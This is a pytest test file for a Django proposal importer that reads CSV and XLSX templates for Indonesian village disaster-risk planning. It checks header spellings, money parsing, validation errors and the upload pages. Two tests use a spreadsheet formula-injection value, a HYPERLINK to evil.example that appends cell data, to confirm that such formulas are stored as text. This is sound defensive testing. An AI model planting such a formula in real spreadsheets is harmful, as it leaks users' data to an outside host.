"""Importing proposals from the CSV/XLSX template: good files in every accepted spelling, and
every kind of bad file refused with its row and column, nothing written."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone, translation

from tangguh.core.importing import Problems, cells
from tangguh.core.importing.files import read_file
from tangguh.core.models import ChangeRecord, Job
from tangguh.planning import services
from tangguh.planning.importers import TEMPLATE_COLUMNS, import_proposals
from tangguh.planning.importers import proposals as proposal_import
from tangguh.planning.models import Proposal, SourceKind
from tangguh.regions.models import Region

NUATAUS = "53.01.27.2002"
POTO = "53.01.27.2001"
KOTA_VILLAGE = "53.71.01.1001"


def row(**values: str) -> dict[str, str]:
    base = {
        "ref": "FB-01",
        "village_code": NUATAUS,
        "source_kind": "risk_plan",
        "title": "Embung penampung air untuk musim kering",
        "description": "Embung tanah 20 x 30 m di dusun 2",
        "problem": "Kekeringan setiap tahun, ternak mati",
        "volume": "1",
        "unit": "unit",
        "estimated_cost": "Rp 150.000.000",
        "priority": "1",
        "women": "120",
        "men": "115",
        "disabled": "4",
        "elderly": "30",
        "children": "80",
        "hazards": "drought",
        "phases": "pra",
        "poverty": "ya",
        "climate_adaptation": "1",
        "livelihood": "tidak",
        "partner_programme": "",
    }
    base.update(values)
    return base


def write_csv(
    folder: Path,
    rows: list[dict[str, str]],
    *,
    header: list[str] | None = None,
    delimiter: str = ",",
    name: str = "usulan.csv",
    encoding: str = "utf-8",
) -> Path:
    header = header or TEMPLATE_COLUMNS
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    for values in rows:
        writer.writerow([values.get(h, "") for h in header])
    path = folder / name
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def write_xlsx(folder: Path, rows: list[list[object]], header: list[str] | None = None) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Usulan"
    sheet.append(header or TEMPLATE_COLUMNS)
    for values in rows:
        sheet.append(values)
    path = folder / "usulan.xlsx"
    book.save(path)
    return path


@pytest.fixture
def year(planning_calendar):
    return planning_calendar("53.01", state="open")


def messages(report) -> list[str]:
    return [str(p) for p in report.errors]


def test_it_imports_a_good_csv_file(tmp_path, year, kupang_editor):
    path = write_csv(
        tmp_path,
        [
            row(),
            row(ref="FB-02", village_code=POTO, hazards="Banjir; kekeringan"),
            row(ref="FB-03", hazards="flash_flood flood", phases="pra saat"),
        ],
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert report.errors == []
    assert report.created == 3
    first = Proposal.objects.get(reference="FB-01")
    assert first.region_id == NUATAUS
    assert first.regency_id == "53.01"
    assert first.year == year
    assert first.source_kind == SourceKind.RISK_PLAN
    assert first.estimated_cost == Decimal("150000000")
    assert (first.women, first.men, first.disabled, first.elderly, first.children) == (
        120,
        115,
        4,
        30,
        80,
    )
    assert first.poverty is True
    assert first.climate_adaptation is True
    assert first.livelihood is False
    assert first.phases == ["pra"]
    assert [h.key for h in first.hazards.all()] == ["drought"]
    second = Proposal.objects.get(reference="FB-02")
    assert sorted(h.key for h in second.hazards.all()) == ["drought", "flood"]
    third = Proposal.objects.get(reference="FB-03")
    assert sorted(h.key for h in third.hazards.all()) == ["flash_flood", "flood"]
    assert third.phases == ["pra", "saat"]
    created = ChangeRecord.objects.filter(model="planning.proposal", action="create")
    assert created.count() == 3
    assert set(created.values_list("actor_name", flat=True)) == {kupang_editor.username}


def test_it_reads_indonesian_headers_labels_and_money_in_a_semicolon_file(
    tmp_path, year, kupang_editor
):
    header = [
        "No",
        "Kode Desa",
        "Sumber",
        "Judul",
        "Uraian",
        "Masalah",
        "Volume",
        "Satuan",
        "Perkiraan Biaya (Rp)",
        "Prioritas",
        "Perempuan",
        "Laki-laki",
        "Bencana",
        "Fase",
        "Kemiskinan",
        "Penghidupan",
        "Tahun",
    ]
    rows = [
        {
            "No": "1",
            "Kode Desa": "5301272002",
            "Sumber": "Musrenbang Desa",
            "Judul": "Rehab jalan usaha tani",
            "Volume": "1,5",
            "Satuan": "km",
            "Perkiraan Biaya (Rp)": "150,000,000",
            "Perempuan": "1.200",
            "Bencana": "Tanah Longsor",
            "Fase": "pasca bencana; pra",
            "Kemiskinan": "yes",
            "Penghidupan": "TRUE",
            "Tahun": str(year),
        },
        {
            "No": "2",
            "Kode Desa": POTO,
            "Sumber": "Rencana penghidupan masyarakat desa",
            "Judul": "Bibit kelor untuk kelompok tani perempuan",
            "Perkiraan Biaya (Rp)": "75 juta",
        },
        {
            "No": "3",
            "Kode Desa": POTO,
            "Sumber": "pokir",
            "Judul": "Sumur bor",
            "Perkiraan Biaya (Rp)": "150000000",
        },
    ]
    path = write_csv(tmp_path, rows, header=header, delimiter=";")

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == []
    road = Proposal.objects.get(title="Rehab jalan usaha tani")
    assert road.source_kind == SourceKind.MUSRENBANG_DESA
    assert road.volume == Decimal("1.5")
    assert road.estimated_cost == Decimal(150_000_000)
    assert road.women == 1200
    assert road.phases == ["pra", "pasca"]
    assert road.poverty
    assert road.livelihood
    assert [h.key for h in road.hazards.all()] == ["landslide"]
    kelor = Proposal.objects.get(title__startswith="Bibit kelor")
    assert kelor.source_kind == SourceKind.LIVELIHOOD_PLAN
    assert kelor.estimated_cost == Decimal(75_000_000)
    assert Proposal.objects.get(title="Sumur bor").source_kind == SourceKind.POKIR


def test_it_reads_a_tab_separated_file_with_english_labels(tmp_path, year, kupang_editor):
    path = write_csv(
        tmp_path,
        [row(source_kind="Village livelihood plan", estimated_cost="1.250.000,50")],
        delimiter="\t",
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == []
    proposal = Proposal.objects.get()
    assert proposal.source_kind == SourceKind.LIVELIHOOD_PLAN
    assert proposal.estimated_cost == Decimal("1250000.50")


def test_it_imports_an_xlsx_file_with_numbers_and_booleans_as_cells(tmp_path, year, kupang_editor):
    values = row()
    cells: list[object] = [values[c] for c in TEMPLATE_COLUMNS]
    cells[TEMPLATE_COLUMNS.index("estimated_cost")] = 150000000
    cells[TEMPLATE_COLUMNS.index("women")] = 12.0
    cells[TEMPLATE_COLUMNS.index("poverty")] = True
    cells[TEMPLATE_COLUMNS.index("ref")] = 17
    path = write_xlsx(tmp_path, [cells])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == []
    proposal = Proposal.objects.get()
    assert proposal.reference == "17"
    assert proposal.estimated_cost == Decimal(150_000_000)
    assert proposal.women == 12
    assert proposal.poverty is True


def test_a_dry_run_checks_everything_and_writes_nothing(tmp_path, year, kupang_editor):
    path = write_csv(tmp_path, [row(), row(ref="FB-02")])

    report = import_proposals(path, year=year, actor=kupang_editor, dry_run=True)

    assert report.errors == []
    assert report.created == 2
    assert report.as_dict()["created"] == 2
    assert report.as_dict()["dry_run"] is True
    assert not Proposal.objects.exists()
    assert not ChangeRecord.objects.filter(model="planning.proposal").exists()


def test_one_bad_row_stops_the_whole_file(tmp_path, year, kupang_editor):
    path = write_csv(tmp_path, [row(), row(ref="FB-02", village_code="53.01.27.2999")])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.csv:3 [village_code]: unknown village code 53.01.27.2999",
    ]
    assert report.created == 0
    assert not Proposal.objects.exists()


def test_villages_outside_the_actors_regions_are_refused(tmp_path, year, village_officer):
    path = write_csv(tmp_path, [row(), row(ref="FB-02", village_code=POTO)])

    report = import_proposals(path, year=year, actor=village_officer)

    assert messages(report) == [
        "usulan.csv:3 [village_code]: 53.01.27.2001 Poto is outside the regions where you may "
        "add proposals"
    ]
    assert not Proposal.objects.exists()


def test_rows_outside_the_chosen_region_are_refused(tmp_path, year, planning_calendar):
    planning_calendar("53.71", state="open", year=year)
    path = write_csv(tmp_path, [row(), row(ref="K-1", village_code=KOTA_VILLAGE)])

    report = import_proposals(path, year=year, actor=None, region=Region.objects.get(code="53.01"))

    assert len(report.errors) == 1
    assert report.errors[0].line == 3
    assert "53.71.01.1001 Namosain is not in" in report.errors[0].message


def test_a_missing_column_is_named_and_a_renamed_one_pointed_out(tmp_path, year, kupang_editor):
    header = [("biaya_usulan" if c == "estimated_cost" else c) for c in TEMPLATE_COLUMNS]
    header.remove("village_code")
    path = write_csv(tmp_path, [row()], header=header)

    report = import_proposals(path, year=year, actor=kupang_editor)

    found = messages(report)
    assert found[0].startswith(
        "usulan.csv:1 [village_code]: the required column village_code is missing (also "
        "accepted: kode_desa"
    )
    assert "Unknown columns: biaya_usulan" in found[0]
    assert found[1].startswith(
        "usulan.csv:1 [biaya_usulan]: unknown column; was it renamed? The template's columns "
        "are: ref, village_code,"
    )
    assert not Proposal.objects.exists()


def test_duplicate_references_are_refused_in_the_file_and_against_stored_proposals(
    tmp_path, year, kupang_editor
):
    services.create_proposal(
        actor=None,
        region_id=NUATAUS,
        year=year,
        reference="FB-09",
        source_kind="risk_plan",
        title="Sudah ada",
    )
    path = write_csv(tmp_path, [row(), row(title="Lagi"), row(ref="FB-09", title="Juga")])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.csv:3 [ref]: the reference FB-01 is used twice in the file (first on row 2)",
        f"usulan.csv:4 [ref]: a proposal of {year} in 53.01 already has the reference FB-09",
    ]
    assert Proposal.objects.count() == 1


def test_text_in_numbers_negative_and_out_of_range_values_are_refused(
    tmp_path, year, kupang_editor
):
    path = write_csv(
        tmp_path,
        [
            row(estimated_cost="seratus juta", women="banyak"),
            row(ref="FB-02", volume="-3", priority="1000", men="12.5"),
            row(ref="FB-03", poverty="mungkin", phases="kemarau", hazards="meteor"),
        ],
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.csv:2 [estimated_cost]: 'seratus juta' is not a number",
        "usulan.csv:2 [women]: 'banyak' is not a number",
        "usulan.csv:3 [volume]: must not be negative (-3)",
        "usulan.csv:3 [priority]: 1000 lies outside 1–999",
        "usulan.csv:3 [men]: 12.5 is not a whole number",
        "usulan.csv:4 [poverty]: 'mungkin' is not yes or no; write 1/0, ya/tidak, yes/no or "
        "true/false",
        "usulan.csv:4 [hazards]: unknown hazard(s): meteor (give the catalogue key, e.g. flood, "
        "or the name, e.g. Banjir; separate several with ;)",
        "usulan.csv:4 [phases]: unknown disaster phase(s): kemarau; use pra, saat or pasca",
    ]
    assert not Proposal.objects.exists()


def test_missing_values_and_unknown_sources_are_refused(tmp_path, year, kupang_editor):
    path = write_csv(
        tmp_path,
        [row(village_code="", title="", source_kind="arisan"), row(ref="X", village_code="abc")],
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    found = messages(report)
    assert found[0] == "usulan.csv:2 [village_code]: the village code is missing"
    assert found[1].startswith("usulan.csv:2 [source_kind]: unknown source 'arisan'; use one of:")
    assert found[2] == "usulan.csv:2 [title]: the title is missing"
    assert found[3] == "usulan.csv:3 [village_code]: 'abc' is not a region code like 53.01.27.2002"


def test_a_year_column_must_match_the_import_year(tmp_path, year, kupang_editor):
    header = [*TEMPLATE_COLUMNS, "year"]
    path = write_csv(
        tmp_path, [row(year=str(year)), row(ref="FB-02", year=str(year + 1))], header=header
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        f"usulan.csv:3 [year]: the row is for {year + 1}, but the import is for budget year {year}"
    ]


def test_a_year_without_calendar_is_refused_with_the_reason(tmp_path, kupang_editor):
    path = write_csv(tmp_path, [row(), row(ref="FB-02")])

    report = import_proposals(path, year=2031, actor=kupang_editor)

    assert len(report.errors) == 1
    problem = report.errors[0]
    assert (problem.line, problem.column) == (2, "source_kind")
    assert problem.message.startswith(
        "There is no planning calendar for Kabupaten Kupang, budget year 2031"
    )
    assert problem.message.endswith("(2 rows: 2, 3)")


def test_a_closed_window_is_refused_with_the_reason(tmp_path, planning_calendar, kupang_editor):
    year = planning_calendar("53.01", state="closed")
    path = write_csv(tmp_path, [row()])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert len(report.errors) == 1
    assert "villages can no longer add or change proposals" in report.errors[0].message
    assert not Proposal.objects.exists()


def test_partner_programmes_are_found_by_name_and_unknown_ones_refused(
    tmp_path, year, kupang_editor
):
    programme = services.create_programme(
        actor=None, region_id="53.01", name="Tangguh Fatuleu", partner="YPK", first_year=2024
    )
    path = write_csv(
        tmp_path,
        [
            row(source_kind="partner", partner_programme="tangguh fatuleu"),
            row(ref="FB-02", source_kind="partner", partner_programme="Program Lain"),
        ],
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.csv:3 [partner_programme]: unknown partner programme 'Program Lain' in 53.01 "
        "(known: Tangguh Fatuleu)"
    ]
    good = write_csv(tmp_path, [row(source_kind="partner", partner_programme="Tangguh Fatuleu")])
    assert import_proposals(good, year=year, actor=kupang_editor).errors == []
    assert Proposal.objects.get().partner_programme == programme


def test_formulas_are_stored_as_text_and_nul_bytes_refused(tmp_path, year, kupang_editor):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    path = write_csv(tmp_path, [row(title=hostile), row(ref="FB-02", description="ada\x00nol")])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.csv:3 [description]: holds an invisible control character (U+0000), often left "
        "by copying from another program; type the text again"
    ]
    path = write_csv(tmp_path, [row(title=hostile, description="+62 812")])
    assert import_proposals(path, year=year, actor=kupang_editor).errors == []
    stored = Proposal.objects.get()
    assert stored.title == hostile
    assert stored.description == "+62 812"


def test_a_formula_typed_in_a_workbook_is_stored_as_its_text(tmp_path, year, kupang_editor):
    values = row()
    cells: list[object] = [values[c] for c in TEMPLATE_COLUMNS]
    cells[TEMPLATE_COLUMNS.index("title")] = '=HYPERLINK("http://evil.example","klik")'
    path = write_xlsx(tmp_path, [cells])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert report.errors == []
    assert Proposal.objects.get().title == '=HYPERLINK("http://evil.example","klik")'


def test_a_formula_without_value_in_a_number_column_is_refused(tmp_path, year, kupang_editor):
    values = row()
    cells: list[object] = [values[c] for c in TEMPLATE_COLUMNS]
    cells[TEMPLATE_COLUMNS.index("estimated_cost")] = "=5*30000000"
    path = write_xlsx(tmp_path, [cells])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == [
        "usulan.xlsx, sheet Usulan:2 [estimated_cost (I)]: holds a formula without a computed "
        "value; type the value"
    ]


def test_a_file_in_another_encoding_is_refused(tmp_path, year, kupang_editor):
    path = write_csv(
        tmp_path, [row(title="Perbaikan jalan ke Oelbiteno – tahap 2 é")], encoding="cp1252"
    )

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert len(report.errors) == 1
    assert "is not UTF-8 text" in report.errors[0].message
    assert "CSV UTF-8" in report.errors[0].message


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("usulan.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "cannot be read as a spreadsheet"),
        ("usulan.ods", b"PK\x03\x04rest", "neither a CSV file nor a spreadsheet"),
        ("usulan.pdf", b"%PDF-1.4", "neither a CSV file nor a spreadsheet"),
        ("usulan.xlsx", b"not a zip", "is not a spreadsheet although its name ends in .xlsx"),
        ("usulan.xlsx", b"PK\x03\x04broken", "cannot be read as a spreadsheet"),
        ("usulan.csv", b"", "is empty"),
    ],
)
def test_files_that_are_not_csv_or_spreadsheets_are_refused_clearly(
    tmp_path, year, kupang_editor, name, content, expected
):
    path = tmp_path / name
    path.write_bytes(content)

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert len(report.errors) == 1
    assert expected in report.errors[0].message


def test_an_excel_97_workbook_is_read_like_any_other(year, kupang_editor):
    """An .xls file is read (here one without the template's columns, which are named)."""
    sample = Path(services.__file__).parents[2] / "disasters" / "data"
    report = import_proposals(
        sample / "bnpb_sample_Data_Bencana.xls", year=year, actor=kupang_editor
    )

    assert report.format == "xls"
    assert report.errors
    assert "the required column village_code is missing" in report.errors[0].message


def test_a_header_without_rows_is_reported(tmp_path, year, kupang_editor):
    path = write_csv(tmp_path, [])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert messages(report) == ["usulan.csv:1: has a header but no proposals"]


def test_a_village_source_needs_a_village_the_service_says_why(tmp_path, year, kupang_editor):
    path = write_csv(tmp_path, [row(village_code="53.01")])

    report = import_proposals(path, year=year, actor=kupang_editor)

    assert len(report.errors) == 1
    assert report.errors[0].column == "village_code"
    assert "needs its village or sub-district" in report.errors[0].message


def test_a_sheet_with_a_far_right_cell_is_read_in_bounded_width(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ref", "title"])
    for n in range(200):
        sheet.append([f"R{n}", "judul"])
        sheet.cell(n + 2, 16384).value = "x"
    path = tmp_path / "wide.xlsx"
    book.save(path)
    problems = Problems()

    read = read_file(path, problems, formulas=True, max_columns=proposal_import.MAX_COLUMNS)

    assert read is not None, problems.items
    assert len(read.sheets[0].rows) == 201
    assert all(len(row.cells) <= 2 for row in read.sheets[0].rows)


# ---------------------------------------------------------------------------------------------
# The pages: upload, check in the background, then import; the template


def upload(path: Path, content_type: str = "text/csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(path.name, path.read_bytes(), content_type=content_type)


def test_the_import_page_checks_the_file_then_imports_it_when_confirmed(
    tmp_path, year, web, kupang_editor, django_capture_on_commit_callbacks
):
    from django.urls import reverse

    client = web(kupang_editor)
    url = reverse("planning:proposal-import")
    assert client.get(url).status_code == 200
    path = write_csv(tmp_path, [row(), row(ref="FB-02", title="Bak air hujan")])

    with django_capture_on_commit_callbacks(execute=True):
        checked = client.post(url, {"upload": upload(path), "year": year, "region": "53.01"})

    job = Job.objects.get(kind="planning.proposals")
    assert checked["Location"] == reverse("job", args=[job.pk])
    job.refresh_from_db()
    assert (job.status, job.result["created"], job.result["dry_run"]) == ("done", 2, True)
    page = client.get(checked["Location"]).content.decode()
    assert re.search(r"<dt>Created</dt><dd[^>]*>2</dd>", page), "the report names its counts"
    assert "Import now" in page
    assert not Proposal.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        done = client.post(reverse("job-confirm", args=[job.pk]))

    assert done.status_code == 302
    assert Proposal.objects.count() == 2
    assert set(
        ChangeRecord.objects.filter(model="planning.proposal").values_list("source", flat=True)
    ) == {"task"}
    again = client.post(reverse("job-confirm", args=[job.pk]))
    assert again.status_code == 403
    assert Proposal.objects.count() == 2


def test_the_import_page_lists_problems_and_imports_nothing(
    tmp_path, year, web, kupang_editor, django_capture_on_commit_callbacks
):
    from django.urls import reverse

    path = write_csv(tmp_path, [row(), row(ref="FB-02", estimated_cost="mahal")])
    client = web(kupang_editor)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("planning:proposal-import"), {"upload": upload(path), "year": year}
        )

    job = Job.objects.get(kind="planning.proposals")
    assert job.status == "failed"
    page = client.get(response["Location"]).content.decode()
    assert re.search(
        r'<td>usulan.csv</td><td></td><td class="num">3</td><td>estimated_cost</td>', page
    )
    assert "&#x27;mahal&#x27; is not a number" in page
    assert "Import now" not in page
    assert not Proposal.objects.exists()


def test_the_import_page_reads_xls_files_and_refuses_viewers(
    tmp_path, year, web, kupang_editor, make_user, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    url = reverse("planning:proposal-import")
    old = SimpleUploadedFile(
        "usulan.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
        content_type="application/vnd.ms-excel",
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = web(kupang_editor).post(url, {"upload": old, "year": year})
    assert response.status_code == 302
    [problem] = Job.objects.get(kind="planning.proposals").result["errors"]
    assert "cannot be read as a spreadsheet" in problem["message"]
    viewer = make_user("kupang.viewer", {"53.01": "viewer"})
    assert web(viewer).get(url).status_code == 403


def test_only_the_uploader_may_confirm_a_checked_file(
    tmp_path, year, web, kupang_editor, make_user, django_capture_on_commit_callbacks
):
    from django.urls import reverse

    url = reverse("planning:proposal-import")
    path = write_csv(tmp_path, [row()])
    with django_capture_on_commit_callbacks(execute=True):
        web(kupang_editor).post(url, {"upload": upload(path), "year": year})
    job = Job.objects.get(kind="planning.proposals")
    other = web(make_user("other.editor", {"53.01": "editor"}))

    response = other.post(reverse("job-confirm", args=[job.pk]))

    assert response.status_code == 403
    assert not Proposal.objects.exists()


def test_the_excel_template_explains_every_column_and_imports_back(
    tmp_path, year, web, kupang_editor
):
    from django.urls import reverse

    response = web(kupang_editor).get(reverse("planning:proposal-template"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    path = tmp_path / "template.xlsx"
    path.write_bytes(response.content)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Proposals", "Read me", "Village codes"]
    sheet = book["Proposals"]
    assert [c.value for c in sheet[1]] == TEMPLATE_COLUMNS
    explained = [book["Read me"].cell(r, 1).value for r in range(5, book["Read me"].max_row + 1)]
    assert explained == [*TEMPLATE_COLUMNS, "year"]
    villages = {book["Village codes"].cell(r, 1).value for r in range(2, 400)}
    assert NUATAUS in villages
    assert "53.71.01.1001" not in villages
    validations = {str(v.sqref).split(":")[0]: v for v in sheet.data_validations.dataValidation}
    assert "musrenbang_desa" in validations["C2"].formula1
    values = row()
    sheet.append([values[c] for c in TEMPLATE_COLUMNS])
    book.save(path)
    assert import_proposals(path, year=year, actor=kupang_editor).errors == []
    assert Proposal.objects.count() == 1


def test_the_csv_template_is_the_header_row(web, kupang_editor):
    from django.urls import reverse

    response = web(kupang_editor).get(reverse("planning:proposal-template") + "?format=csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.decode().strip() == ",".join(TEMPLATE_COLUMNS)


def test_the_demo_proposals_file_imports_cleanly_year_by_year(tmp_path, planning_calendar):
    """The demo data is written in the template's columns; every year of it imports as is."""
    data = Path(services.__file__).parents[1] / "demo_data"
    with (data / "programmes.csv").open(encoding="utf-8", newline="") as stream:
        for programme in csv.DictReader(stream):
            services.create_programme(
                actor=None,
                region_id=programme["region"],
                name=programme["name"],
                partner=programme["partner"],
                first_year=int(programme["first_year"]),
            )
    with (data / "proposals.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    groups: dict[tuple[str, str], list[dict[str, str]]] = {}
    for values in rows:
        groups.setdefault((values["year"], values["village_code"][:5]), []).append(values)
    for (year, regency), group in sorted(groups.items()):
        planning_calendar(regency, state="open", year=int(year))
        header = [*TEMPLATE_COLUMNS, "year"]
        path = write_csv(tmp_path, group, header=header, name=f"demo-{regency}-{year}.csv")

        report = import_proposals(path, year=int(year), actor=None)

        assert messages(report) == []
        assert report.created == len(group)
    assert Proposal.objects.count() == len(rows)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("150000000", Decimal(150_000_000)),
        ("150.000.000", Decimal(150_000_000)),
        ("Rp 150.000.000", Decimal(150_000_000)),
        ("Rp. 150.000.000,-", Decimal(150_000_000)),
        ("IDR 150,000,000", Decimal(150_000_000)),
        ("150,000,000.50", Decimal("150000000.50")),
        ("1.250.000,75", Decimal("1250000.75")),
        ("1,5", Decimal("1.5")),
        ("1.5", Decimal("1.5")),
        ("1.500", Decimal(1500)),
        ("150 juta", Decimal(150_000_000)),
        ("1,5 miliar", Decimal(1_500_000_000)),
        (150000000.0, Decimal(150_000_000)),
        (0.1 + 0.2, Decimal("0.3")),
        ("", None),
        (None, None),
    ],
)
def test_numbers_are_read_the_indonesian_and_the_english_way(cell, expected):
    assert cells.number(cell) == expected


@pytest.mark.parametrize("cell", ["seratus", "1.2.3", "1,2,3", "12-5", True, "Rp"])
def test_text_that_is_not_a_number_is_refused(cell):
    with pytest.raises(cells.BadValue):
        cells.number(cell)


@pytest.mark.parametrize("implausible", [1999, 2099])
def test_a_budget_year_far_from_the_present_is_refused_with_its_range(
    tmp_path, year, kupang_editor, implausible
):
    """Issue 14, item 8: plans lie near the present (settings.PLAUSIBLE_YEARS["plans"])."""
    path = write_csv(tmp_path, [row()])
    report = import_proposals(path, year=implausible, actor=kupang_editor)
    assert [p.message for p in report.errors] == [
        f"{implausible} is not a plausible year for a plan (from 2000 to "
        f"{timezone.localdate().year + 10})"
    ]
    assert not Proposal.objects.exists()
    err = io.StringIO()
    with translation.override("id"), pytest.raises(CommandError):
        call_command(
            "import_proposals",
            str(path),
            "--year",
            str(implausible),
            stdout=io.StringIO(),
            stderr=err,
        )
    assert f"{implausible} bukan tahun yang masuk akal untuk rencana" in err.getvalue()
    assert not Proposal.objects.exists()
